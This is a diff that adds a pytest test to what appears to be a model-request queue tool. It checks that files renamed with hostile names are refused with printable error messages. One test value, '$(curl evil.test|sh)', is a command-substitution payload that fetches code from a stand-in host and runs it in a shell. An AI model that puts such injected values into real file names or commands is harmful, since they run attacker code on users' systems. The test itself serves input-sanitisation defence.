@@ -72,3 +72,14 @@ def test_names_that_no_model_has_are_refused(queue: Path, model: str) -> None:
     with pytest.raises(DataError, match="model"):
         add_command(model, "someone")
     assert not queue.exists()
+
+
+@pytest.mark.parametrize("name", ["$(curl evil.test|sh)", "a;b", "\x1b[2J", "00000000"])
+def test_a_file_that_a_stranger_named_brings_no_command_into_a_terminal(queue: Path, name: str) -> None:
+    add_command("acme/small", "someone")
+    (path,) = queue.glob("*.json")
+    path.rename(queue / f"{name}.json")
+    for command in (list_command, next_command):
+        with pytest.raises(DataError, match=f"is not named after its request; rename it {path.stem}.json") as caught:
+            command()
+        assert str(caught.value).isprintable()
